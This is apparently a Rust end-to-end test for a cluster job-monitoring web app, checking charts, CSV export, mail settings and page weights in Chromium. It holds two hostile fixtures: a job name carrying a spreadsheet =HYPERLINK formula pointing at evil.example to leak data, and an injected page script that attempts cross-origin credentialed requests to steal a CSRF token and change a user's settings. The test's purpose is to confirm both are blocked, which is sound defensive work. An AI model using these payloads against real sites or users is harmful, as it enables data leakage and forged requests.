//! The site's newer pages end to end, with data the real scrapers took from a real job: the
//! job page's uPlot charts (every metric, zoom across charts by a real mouse drag, per-step
//! series), CSV read back by Python's `csv` module (a hostile job name comes out defused), the
//! mail settings page written through Chromium, and a hostile page on another origin that
//! tries to change them (refused). Each page's transferred weight is measured in Chromium and
//! written to `test-artifacts/web-pages/weights.txt` with the screenshots.

use super::{curl_port, now, report, Browser, Guard};
use crate::scrape_support::{cancel, terminate, wait_running, Setup};
use crate::util::*;
use serde_json::{json, Value};
use std::process::{Command, Stdio};
use std::time::Duration;
use turingwatch::store::PeriodRecord;

const SERVER_PORT: u16 = 18_820;
const DRIVER_PORT: u16 = 18_821;
const EVIL_PORT: u16 = 18_822;
const ARTIFACTS: &str = "web-pages";

/// A job name a spreadsheet would run as a formula.
const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"click\"),x";

/// `curl` as `user`: (status, content type, body).
fn curl_raw(user: &str, path: &str) -> (u16, String, String) {
    let out = run(Command::new("curl")
        .args(["-s", "--max-time", "20", "-H", &format!("X-AuthUser: {user}"), "-w", "\n%{http_code} %{content_type}"])
        .arg(format!("http://127.0.0.1:{SERVER_PORT}{path}")));
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let (body, tail) = text.rsplit_once('\n').unwrap_or(("", ""));
    let (status, kind) = tail.split_once(' ').unwrap_or((tail, ""));
    (status.parse().unwrap_or(0), kind.to_string(), body.to_string())
}

/// The rows of a CSV text as Python's `csv` module reads them (the oracle is not ours).
fn python_csv(text: &str) -> Vec<Vec<String>> {
    let mut child = Command::new("python3")
        .args(["-c", "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    serde_json::from_slice(&out.stdout).unwrap()
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0].iter().position(|c| c == name).unwrap_or_else(|| panic!("no column {name}: {:?}", rows[0]))
}

/// A Python busy loop of `secs` seconds holding `mib` MiB.
fn burn(mib: u64, secs: u64) -> String {
    format!(
        "python3 -c 'import time; b = bytearray({mib} << 20); t = time.time() + {secs}\nwhile time.time() < t: pass'"
    )
}

/// Cancels a test job however the test ends.
struct CancelOnDrop(u64);

impl Drop for CancelOnDrop {
    fn drop(&mut self) {
        cancel(self.0);
    }
}

#[test]
fn job_charts_csv_and_mail_settings_in_chromium_with_scraped_data() {
    if !cluster() {
        return;
    }
    if !super::browser_available() {
        return;
    }
    let setup = Setup::new(
        "web_pages",
        SERVER_PORT,
        &format!(
            "[accounting]\ninterval = \"10s\"\nfirst_window = \"1h\"\n[findings]\nmin_runtime = \"1s\"\n\
             [mail]\nweb_base_url = \"http://127.0.0.1:{SERVER_PORT}\"\n"
        ),
    );
    let config = std::fs::read_to_string(&setup.config).unwrap().replace("[web]\n", "[web]\nadmins = [\"root\"]\n");
    std::fs::write(&setup.config, config).unwrap();

    // A period (with hand-made report mails) first: the store has one writer at a time.
    let start = now() - 86_400;
    {
        let store = setup.store();
        store.put_period(&PeriodRecord { start, end: start + 2 * 86_400, closed: false, updated_at: now() }).unwrap();
        store.put_reports(start, &[report(start, "alice", 0), report(start, "bob", 0)]).unwrap();
    }
    let server = setup.server();
    let log = |name: &str| std::fs::File::create(setup.dir.join(name)).unwrap();
    let mut scrapers: Vec<Guard> = ["n1", "n2", "n3"]
        .iter()
        .map(|node| {
            Guard(
                setup
                    .turingwatch()
                    .args(["scrape", "--node", node, "--interval", "1s", "--duration", "10m"])
                    .stdout(Stdio::null())
                    .stderr(log(&format!("scrape-{node}.log")))
                    .spawn()
                    .unwrap(),
            )
        })
        .collect();
    std::thread::sleep(Duration::from_secs(2));

    // bob: a job still running while the cluster page is looked at (cancelled at the end).
    let live = sbatch(Some("bob"), &["-J", "tw-web-pages-live", "-c1", "--mem=200M", "-t", "6"], &burn(30, 330));
    let _cancel_live = CancelOnDrop(live);
    let live_node = wait_running(live, Duration::from_secs(60));

    // alice: a step that burns a core, the batch step holding 150 MiB and writing a file (after
    // 3 s, once the scraper samples the step: a process that writes and exits between two
    // samples leaves no I/O in a cgroup v1 step without blkio counters).
    let file = "/tmp/tw-web-pages-$SLURM_JOB_ID";
    let job = sbatch(
        Some("alice"),
        &["-J", HOSTILE_NAME, "-N1", "-n1", "-c2", "--mem=1G", "-t", "3"],
        &format!(
            "srun -n1 -c1 {} & {} & sleep 3; dd if=/dev/zero of={file} bs=1M count=300 status=none; cat {file} >/dev/null; \
             rm -f {file}; wait",
            burn(10, 25),
            burn(150, 25)
        ),
    );
    let bob_job = sbatch(Some("bob"), &["-J", "tw-web-pages-idle", "-c1", "--mem=300M", "-t", "1"], "sleep 3");
    assert_eq!(wait_job_done(job, Duration::from_secs(180)), "COMPLETED", "job {job}");
    wait_job_done(bob_job, Duration::from_secs(60));

    // The server imported the finished job and holds its samples, per node and per step.
    let mut detail = Value::Null;
    let ready = eventually(Duration::from_secs(90), || {
        detail = curl_port(SERVER_PORT, "127.0.0.1", Some("alice"), &format!("/api/jobs/{job}")).1;
        let steps: Vec<&str> =
            detail["step_series"].as_array().into_iter().flatten().filter_map(|s| s["step"].as_str()).collect();
        detail["summary"]["end_at"].is_u64() && steps.contains(&"batch") && steps.contains(&"0")
    });
    assert!(ready, "job {job} not imported with samples of both steps: {detail}\n{}", setup.server_log());
    let node = &detail["series"][0];
    let peak = |field: &str| node[field].as_array().unwrap().iter().filter_map(Value::as_f64).fold(0.0, f64::max);
    eprintln!(
        "job {job} on {}: {} points, cores up to {:.2} (user {:.2}, system {:.2}), resident up to {:.0} MiB, \
         page cache up to {:.0} MiB, writes up to {:.1} MiB/s, minor faults up to {:.0}/s",
        node["node"],
        node["t"].as_array().unwrap().len(),
        peak("cores"),
        peak("user_cores"),
        peak("sys_cores"),
        peak("rss_bytes") / 1048576.0,
        peak("cache_bytes") / 1048576.0,
        peak("write_bytes_per_sec") / 1048576.0,
        peak("minor_faults_per_sec")
    );
    assert!(peak("cores") > 0.3 && peak("cores") <= 2.3, "cores of a 2-CPU job: {node}");
    assert!(peak("user_cores") > 0.3, "user time: {node}");
    assert!(peak("rss_bytes") > 100.0 * 1048576.0, "the 150 MiB held: {node}");
    assert!(peak("write_bytes_per_sec") > 1048576.0, "the 300 MiB written: {node}");
    assert!(peak("minor_faults_per_sec") > 0.0, "faults: {node}");
    assert_eq!(detail["cores_requested_per_node"], 2.0);

    // CSV as Python reads it: alice's job with its name defused, nothing of bob's.
    let (status, kind, text) = curl_raw("alice", "/api/jobs?format=csv");
    assert_eq!((status, kind.as_str()), (200, "text/csv; charset=utf-8"), "{text}");
    let rows = python_csv(&text);
    let (id, name, user) = (column(&rows, "id"), column(&rows, "name"), column(&rows, "user"));
    let mine = rows.iter().find(|r| r[id] == job.to_string()).unwrap_or_else(|| panic!("job {job} not in {text}"));
    // SLURM keeps the name with its quotes turned into backticks; the formula and comma stay.
    let stored_name = detail["summary"]["name"].as_str().unwrap().to_string();
    assert!(stored_name.starts_with("=HYPERLINK(") && stored_name.contains(','), "{stored_name}");
    assert_eq!(mine[name], format!("'{stored_name}"), "the hostile name opens as text");
    assert!(rows[1..].iter().all(|r| r[user] == "alice"), "{text}");
    let (_, _, bobs) = curl_raw("bob", "/api/jobs?format=csv");
    let bob_rows = python_csv(&bobs);
    assert!(bob_rows[1..].iter().all(|r| r[user] == "bob" && r[id] != job.to_string()), "bob's CSV: {bobs}");
    let (status, kind, data) = curl_raw("root", &format!("/api/data?period={start}&format=csv"));
    assert_eq!((status, kind.as_str()), (200, "text/csv; charset=utf-8"));
    let data = python_csv(&data);
    assert!(data.iter().any(|r| r[id] == job.to_string()) && data.iter().any(|r| r[id] == bob_job.to_string()));
    assert_eq!(curl_raw("bob", "/api/jobs?format=csv&user=alice").0, 403);

    let browser = Browser::start_on(&setup.dir.join("chromium-profile"), DRIVER_PORT, SERVER_PORT);
    browser.cdp("Network.enable", json!({}));
    browser.cdp("Network.setCacheDisabled", json!({"cacheDisabled": true}));
    let mut weights: Vec<(String, u64)> = Vec::new();
    let mut weigh = |browser: &Browser, page: &str| {
        std::thread::sleep(Duration::from_millis(700));
        let bytes = browser.transferred();
        eprintln!("{page}: {bytes} bytes transferred");
        weights.push((page.to_string(), bytes));
        bytes
    };

    // The job page: every chart, drawn by uPlot from the scraped series.
    browser.open_as("alice", &format!("#/job/{job}"));
    let charts = ["plot-cores", "plot-cpu", "plot-mem", "plot-io", "plot-faults"];
    let all_drawn = charts.iter().map(|c| format!("!!document.querySelector('#{c} canvas')")).collect::<Vec<_>>();
    browser.wait_for("the job's charts", &format!("return {}", all_drawn.join(" && ")));
    let job_bytes = weigh(&browser, "job page (alice)");
    let legend = |id: &str| {
        browser
            .eval(&format!("return document.querySelector('#{id} .u-legend').textContent"))
            .as_str()
            .unwrap_or("")
            .to_string()
    };
    assert!(legend("plot-cores").contains("allocated per node"), "{}", legend("plot-cores"));
    assert!(legend("plot-mem").contains("requested per node"), "{}", legend("plot-mem"));
    assert!(legend("plot-cpu").contains("user") && legend("plot-cpu").contains("system"));
    let io_written = browser.eval(
        "var u = TWCharts.all().filter(function (c) { return c.twId === 'plot-io'; })[0];\
         return u.data.slice(1).some(function (ys) { return ys.some(function (v) { return v > 1048576; }); })",
    );
    assert_eq!(io_written, Value::Bool(true), "the I/O chart holds the writes");
    assert!(browser.text().contains(&stored_name), "the name is shown as text");
    browser.screenshot_to(ARTIFACTS, "job-charts");

    // Zoom: a real mouse drag over the cores chart narrows every chart's time axis alike.
    browser.eval("document.getElementById('plot-cores').scrollIntoView(); return true");
    let ranges = "return TWCharts.all().map(function (u) { return [u.scales.x.min, u.scales.x.max]; })";
    let before = browser.eval(ranges);
    let over =
        browser.call("POST", "/element", Some(&json!({"using": "css selector", "value": "#plot-cores .u-over"})));
    let element = over.as_object().and_then(|o| o.values().next()).cloned().expect("the chart's plot area");
    let origin = json!({ "element-6066-11e4-a52e-4f735466cecf": element });
    browser.call(
        "POST",
        "/actions",
        Some(
            &json!({"actions": [{"type": "pointer", "id": "mouse", "parameters": {"pointerType": "mouse"}, "actions": [
            {"type": "pointerMove", "duration": 0, "origin": origin, "x": -120, "y": 0},
            {"type": "pointerDown", "button": 0},
            {"type": "pointerMove", "duration": 300, "origin": origin, "x": 40, "y": 0},
            {"type": "pointerUp", "button": 0}]}]}),
        ),
    );
    let mut after = Value::Null;
    let zoomed = eventually(Duration::from_secs(5), || {
        after = browser.eval(ranges);
        after != before
    });
    assert!(zoomed, "the drag did not zoom: {before} → {after}");
    let spans: Vec<(f64, f64)> =
        after.as_array().unwrap().iter().map(|r| (r[0].as_f64().unwrap(), r[1].as_f64().unwrap())).collect();
    let full = (before[0][0].as_f64().unwrap(), before[0][1].as_f64().unwrap());
    assert!(spans[0].0 > full.0 && spans[0].1 < full.1, "zoomed {spans:?} within {full:?}");
    assert!(spans.iter().all(|s| s == &spans[0]), "every chart follows the zoom: {spans:?}");
    browser.screenshot_to(ARTIFACTS, "job-charts-zoomed");
    browser.eval("document.querySelector('#plot-cores .u-over').dispatchEvent(new MouseEvent('dblclick', {bubbles: true})); return true");
    browser.wait_for(
        "zoomed out",
        &format!("var u = TWCharts.all()[0]; return u.scales.x.min <= {} && u.scales.x.max >= {}", full.0, full.1),
    );

    // Per step: the batch step and step 0 apart.
    browser.eval(
        "var s = document.getElementById('chart-view'); s.value = 'step'; s.dispatchEvent(new Event('change')); return true",
    );
    browser.wait_for(
        "per-step series",
        "var t = document.querySelector('#plot-cores .u-legend').textContent; return t.indexOf('batch') >= 0 && t.indexOf(' 0') >= 0",
    );
    browser.screenshot_to(ARTIFACTS, "job-charts-per-step");

    // Phone width: nothing scrolls sideways.
    let fits = "return document.documentElement.scrollWidth <= window.innerWidth + 1";
    browser.cdp(
        "Emulation.setDeviceMetricsOverride",
        json!({"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": true}),
    );
    for (fragment, ready, shot) in [
        (format!("#/job/{job}"), "return !!document.querySelector('#plot-faults canvas')", "job-phone"),
        ("#/jobs".to_string(), "return document.querySelectorAll('#jobs tr.job-row').length > 0", "jobs-phone"),
        ("#/settings".to_string(), "return !!document.getElementById('settings')", "settings-phone"),
    ] {
        browser.open_as("alice", &fragment);
        browser.wait_for(shot, ready);
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(browser.eval(fits), Value::Bool(true), "{fragment} scrolls sideways on a phone");
        browser.screenshot_to(ARTIFACTS, shot);
    }
    browser.cdp("Emulation.clearDeviceMetricsOverride", json!({}));

    // The other pages, weighed.
    browser.open_as("alice", "#/report");
    browser.wait_for("alice's report", "return !!document.querySelector('iframe.report')");
    let report_bytes = weigh(&browser, "report page (alice)");
    browser.screenshot_to(ARTIFACTS, "report");
    browser.open_as("alice", "#/jobs");
    browser.wait_for("alice's jobs", "return document.querySelectorAll('#jobs tr.job-row').length > 0");
    weigh(&browser, "jobs page (alice)");
    assert!(browser.text().contains(&stored_name));
    let csv_link = browser.eval("return document.getElementById('jobs-csv').getAttribute('href')");
    assert!(csv_link.as_str().is_some_and(|l| l.contains("format=csv")), "{csv_link}");
    browser.screenshot_to(ARTIFACTS, "jobs");
    browser.open_as("root", "#/admin");
    browser.wait_for("overview", "return document.querySelectorAll('#pivot tr.pivot-row').length >= 2");
    weigh(&browser, "overview (root)");
    browser.screenshot_to(ARTIFACTS, "overview");

    // Mail settings: alice opts out and picks Saturday, in the browser.
    browser.open_as("alice", "#/settings");
    browser.wait_for("settings", "return !!document.getElementById('settings')");
    weigh(&browser, "mail settings (alice)");
    browser.eval(
        "document.getElementById('opt-out').click(); document.querySelector('.quiet-day[value=sat]').click();\
         document.getElementById('settings-save').click(); return true",
    );
    browser.wait_for("saved", "return document.getElementById('settings-status').textContent.indexOf('Saved') === 0");
    browser.screenshot_to(ARTIFACTS, "settings-saved");
    let (_, mine) = curl_port(SERVER_PORT, "127.0.0.1", Some("alice"), "/api/settings");
    assert_eq!(
        (mine["prefs"]["opted_out"].clone(), mine["prefs"]["quiet_days"].clone()),
        (json!(true), json!(["sat"]))
    );
    assert_eq!(curl_port(SERVER_PORT, "127.0.0.1", Some("bob"), "/api/settings").1["prefs"]["opted_out"], false);

    // A hostile page on another origin, visited by alice, tries to turn her mail back on.
    let evil = setup.dir.join("evil");
    std::fs::create_dir_all(&evil).unwrap();
    std::fs::write(
        evil.join("index.html"),
        format!(
            "<!doctype html><title>evil</title><script>\n\
             var site = 'http://127.0.0.1:{SERVER_PORT}/api/settings', out = [];\n\
             var body = JSON.stringify({{opted_out: false, quiet_days: []}});\n\
             fetch(site, {{credentials: 'include'}}).then(function (r) {{ return r.json(); }})\n\
               .then(function (v) {{ out.push('read:' + v.csrf_token); }}, function () {{ out.push('read-blocked'); }})\n\
               .then(function () {{ return fetch(site, {{method: 'POST', mode: 'no-cors', credentials: 'include',\n\
                 headers: {{'Content-Type': 'text/plain'}}, body: body}}).then(function () {{ out.push('simple-sent'); }},\n\
                 function () {{ out.push('simple-failed'); }}); }})\n\
               .then(function () {{ return fetch(site, {{method: 'POST', credentials: 'include',\n\
                 headers: {{'Content-Type': 'application/json', 'X-CSRF-Token': 'guess'}}, body: body}})\n\
                 .then(function () {{ out.push('json-sent'); }}, function () {{ out.push('json-blocked'); }}); }})\n\
               .then(function () {{ document.title = 'done ' + out.join(' '); }});\n\
             </script>"
        ),
    )
    .unwrap();
    let _evil_server = Guard(
        Command::new("python3")
            .args(["-m", "http.server", &EVIL_PORT.to_string(), "--bind", "127.0.0.1", "--directory"])
            .arg(&evil)
            .stdout(Stdio::null())
            .stderr(log("evil-server.log"))
            .spawn()
            .unwrap(),
    );
    assert!(eventually(Duration::from_secs(10), || std::net::TcpStream::connect(("127.0.0.1", EVIL_PORT)).is_ok()));
    browser.open_url_as("alice", &format!("http://127.0.0.1:{EVIL_PORT}/"));
    browser.wait_for("the hostile page ran", "return document.title.indexOf('done') === 0");
    let title = browser.eval("return document.title").as_str().unwrap_or("").to_string();
    eprintln!("hostile page: {title}");
    assert!(title.contains("read-blocked") && !title.contains("read:"), "another origin read the token: {title}");
    let (_, still) = curl_port(SERVER_PORT, "127.0.0.1", Some("alice"), "/api/settings");
    assert_eq!(still["prefs"]["opted_out"], true, "the hostile page changed alice's settings: {still}");
    assert_eq!(still["prefs"]["quiet_days"], json!(["sat"]));
    if title.contains("simple-sent") {
        // The browser sent the simple POST; the server must have refused it as cross-site.
        let refused = eventually(Duration::from_secs(5), || setup.server_log().contains("refused as cross-site"));
        assert!(refused, "no cross-site refusal logged: {}", setup.server_log());
    }

    // The cluster page (root): per day, per period, wasters per partition and account, the
    // running job with its live figure, and the node it runs on.
    // alice's share of the partition's core-hours in the API's rows. A running job's core-hours
    // grow while the page loads, so the share is read just before and just after it.
    let alice_share = || -> f64 {
        let (_, periods) = curl_port(SERVER_PORT, "127.0.0.1", Some("root"), "/api/periods");
        let latest = periods.as_array().and_then(|p| p.last()).map(|p| p["start"].clone()).unwrap();
        let (_, table) = curl_port(SERVER_PORT, "127.0.0.1", Some("root"), &format!("/api/data?period={latest}"));
        let debug: Vec<&Value> =
            table["rows"].as_array().unwrap().iter().filter(|r| r["partition"] == "debug").collect();
        let hours = |f: &dyn Fn(&&Value) -> bool| -> f64 {
            debug.iter().filter(|r| f(r)).map(|r| r["core_hours"].as_f64().unwrap()).sum()
        };
        100.0 * hours(&|r| r["user"] == "alice") / hours(&|_| true)
    };
    let share_before = alice_share();
    browser.open_as("root", "#/cluster");
    browser.wait_for(
        "the cluster page",
        &format!(
            "return document.querySelectorAll('#days tr.day-row').length >= 1 \
             && document.querySelectorAll('#periods tr.period-row').length >= 1 \
             && !!document.querySelector('#plot-days canvas') && !!document.querySelector('#wasters-partition-debug') \
             && !!document.querySelector('#wasters-account-dev') \
             && Array.prototype.some.call(document.querySelectorAll('#running tr.running-row'), function (r) {{\
                  return r.textContent.indexOf('{live}') >= 0 && r.textContent.indexOf('(live)') >= 0; }}) \
             && Array.prototype.some.call(document.querySelectorAll('#nodes tr.node-row'), function (r) {{\
                  return r.cells[0].textContent === '{live_node}' && r.textContent.indexOf('{live}') >= 0; }})"
        ),
    );
    weigh(&browser, "cluster (root)");
    let text = browser.text();
    assert!(text.contains("alice") && text.contains("bob"), "{text}");
    let shown = browser.eval(
        "var s = null; document.querySelectorAll('#wasters-partition-debug tr.waster-row').forEach(function (r) {\
           if (r.cells[0].textContent === 'alice') s = parseFloat(r.cells[3].textContent); }); return s",
    );
    let shown = shown.as_f64().unwrap_or(-1.0);
    let share_after = alice_share();
    // The page rounds to whole percent.
    let (low, high) = (share_before.min(share_after) - 0.51, share_before.max(share_after) + 0.51);
    assert!(
        (low..=high).contains(&shown),
        "alice's share of partition debug: shown {shown} %, data {share_before:.2} % before the page and {share_after:.2} % after"
    );
    let hosts = browser.eval("return TWCluster.hosts('n[1-3,05],gpu7,x[08-10]').join(' ')");
    assert_eq!(hosts, "n1 n2 n3 n05 gpu7 x08 x09 x10");
    browser.screenshot_to(ARTIFACTS, "cluster");
    // bob is no admin: his cluster page holds only his own jobs.
    browser.open_as("bob", "#/cluster");
    browser.wait_for("bob's cluster page", "return document.querySelectorAll('#days tr.day-row').length >= 1");
    assert!(!browser.text().contains("alice"), "bob sees alice on the cluster page: {}", browser.text());

    // alice over time: per period and per job family.
    browser.open_as("alice", "#/trend");
    browser.wait_for(
        "alice over time",
        "return document.querySelectorAll('#trend-periods tr.trend-row').length >= 1 \
         && document.querySelectorAll('#trend-families tr.family-row').length >= 1 && !!document.querySelector('#plot-trend canvas')",
    );
    weigh(&browser, "over time (alice)");
    assert!(browser.text().contains(&stored_name), "the family of alice's job: {}", browser.text());
    browser.screenshot_to(ARTIFACTS, "trend");
    browser.cdp(
        "Emulation.setDeviceMetricsOverride",
        json!({"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": true}),
    );
    browser.open_as("root", "#/cluster");
    browser.wait_for("cluster on a phone", "return document.querySelectorAll('#days tr.day-row').length >= 1");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(browser.eval(fits), Value::Bool(true), "the cluster page scrolls sideways on a phone");
    browser.screenshot_to(ARTIFACTS, "cluster-phone");
    browser.cdp("Emulation.clearDeviceMetricsOverride", json!({}));

    // Admins see who opted out.
    browser.open_as("root", "#/settings");
    browser.wait_for("admins' list", "return document.querySelectorAll('#settings-all tr.settings-row').length >= 1");
    let text = browser.text();
    assert!(text.contains("alice") && text.contains("opted out") && text.contains("sat"), "{text}");
    browser.screenshot_to(ARTIFACTS, "settings-admin");
    browser.call("DELETE", "", None);

    let lines: Vec<String> = weights.iter().map(|(p, b)| format!("{p}\t{b}")).collect();
    std::fs::write(artifact_dir(ARTIFACTS).join("weights.txt"), lines.join("\n") + "\n").unwrap();
    assert!(report_bytes > 1_000 && report_bytes <= 300_000, "report page transferred {report_bytes} bytes");
    for (page, bytes) in &weights {
        assert!(*bytes > 1_000 && *bytes <= 300_000, "{page} transferred {bytes} bytes");
    }
    assert!(job_bytes > 20_000, "the job page carries the chart library: {job_bytes} bytes");
    for s in &mut scrapers {
        terminate(&mut s.0);
    }
    server.stop();
}
